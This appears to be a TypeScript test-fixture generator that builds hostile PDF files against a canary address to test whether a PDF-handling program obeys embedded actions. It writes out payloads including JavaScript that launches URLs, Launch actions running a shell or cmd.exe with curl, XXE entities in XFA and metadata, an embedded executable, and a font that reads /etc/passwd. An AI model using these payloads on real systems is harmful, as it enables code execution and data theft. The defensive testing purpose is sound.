import { fileOf, type HostileFile } from '../hostile-file.ts';
import { cvObjects, makePdf, type PageParts, pageWords } from '../pdf-file.ts';

/** What would run, open or fetch something in a program that does as a PDF says. */
export function* activePdfs(canary: string, secretFile: string): Generator<HostileFile> {
  const address = `${canary}/pdf`;
  const actions: Record<string, string> = {
    'a script': `<< /S /JavaScript /JS (app.launchURL("${address}", true); this.submitForm("${address}")) >>`,
    'a program': `<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c curl ${address}) >> >>`,
    'a program for Unix': `<< /S /Launch /Unix << /F (/usr/bin/curl) /P (${address}) >> /NewWindow true >>`,
    'an address': `<< /S /URI /URI (${address}) >>`,
    'a form to send': `<< /S /SubmitForm /F << /FS /URL /F (${address}) >> /Flags 4 >>`,
    'another document': `<< /S /GoToR /F (${address}) /D [0 /Fit] >>`,
    'an embedded document': '<< /S /GoToE /T << /R /C /N (a) >> /D [0 /Fit] >>',
    'data to import': `<< /S /ImportData /F (${address}) >>`,
    'a film': `<< /S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /D << /FS /URL /F (${address}) >> >> >> >>`,
    'a film by its page': `<< /S /Movie /F (${address}) >>`,
    'a thread elsewhere': `<< /S /Thread /F (${address}) >>`,
    'a file of this machine': `<< /S /GoToR /F (${secretFile}) /D [0 /Fit] >>`,
    'actions without end': '<< /S /JavaScript /JS (while(true){}) /Next 1 0 R >>',
  };
  const places: Record<string, (action: string) => PageParts> = {
    'when it is opened': (action) => ({ catalogue: `/OpenAction ${action}` }),
    'when it is read': (action) => ({
      catalogue: `/AA << /WC ${action} /DP ${action} /WS ${action} >>`,
      page: `/AA << /O ${action} >>`,
    }),
    'where one clicks': (action) => ({
      page: '/Annots [6 0 R]',
      more: [`<< /Subtype /Link /Rect [0 0 595 842] /A ${action} >>`],
    }),
    'by a name': (action) => ({ catalogue: '/Names << /JavaScript << /Names [(a) 6 0 R] >> >>', more: [action] }),
  };
  for (const [what, action] of Object.entries(actions))
    for (const [where, place] of Object.entries(places))
      yield fileOf('pdf that acts', `${what} ${where}`, makePdf(cvObjects(place(action))), 'pdf');
  for (const [name, parts] of Object.entries(fetching(address, secretFile)))
    yield fileOf('pdf that fetches', name, makePdf(cvObjects(parts)), 'pdf');
}

function fetching(address: string, secretFile: string): Record<string, PageParts> {
  const elsewhere = `/F << /FS /URL /F (${address}) >>`;
  const xfa = `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY y SYSTEM "${address}">]><xdp><template>&y;</template></xdp>`;
  return {
    'its words elsewhere': { content: { entries: elsewhere, data: pageWords } },
    'its words in a file of this machine': {
      content: { entries: `/F (${secretFile}) /FFilter /FlateDecode`, data: '' },
    },
    'its picture elsewhere': {
      resources: '/XObject << /X 6 0 R >>',
      content: { entries: '', data: `${pageWords} /X Do` },
      more: [
        {
          entries: `/Subtype /Image /Width 9 /Height 9 /ColorSpace /DeviceRGB /BitsPerComponent 8 ${elsewhere}`,
          data: '',
        },
      ],
    },
    'its font elsewhere': {
      font: '<< /Type /Font /Subtype /TrueType /BaseFont /Zz /FontDescriptor 6 0 R >>',
      more: ['<< /Type /FontDescriptor /FontName /Zz /Flags 4 /FontFile2 7 0 R >>', { entries: elsewhere, data: '' }],
    },
    'a form of XFA with an entity': {
      catalogue: '/AcroForm << /XFA 6 0 R /Fields [] >>',
      more: [{ entries: '', data: xfa }],
    },
    'metadata with an entity': {
      catalogue: '/Metadata 6 0 R',
      more: [{ entries: '/Type /Metadata /Subtype /XML', data: xfa }],
    },
    'an attachment that is a program': {
      catalogue: '/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>',
      more: [
        '<< /Type /Filespec /F (a.exe) /EF << /F 7 0 R >> >>',
        { entries: '/Type /EmbeddedFile', data: 'MZ\x90\0' },
      ],
    },
    'a font that is a program': {
      font: '<< /Type /Font /Subtype /Type1 /BaseFont /Zz /FontDescriptor 6 0 R >>',
      more: [
        '<< /FontName /Zz /Flags 4 /FontFile 7 0 R >>',
        { entries: '/Length1 9 /Length2 9 /Length3 0', data: '%!PS { (/etc/passwd) (r) file } loop' },
      ],
    },
    'a matrix that is a script': {
      font: '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FontMatrix [1 2 3 4 5 (0\\); fetch\\("/"\\); \\() ] >>',
    },
  };
}
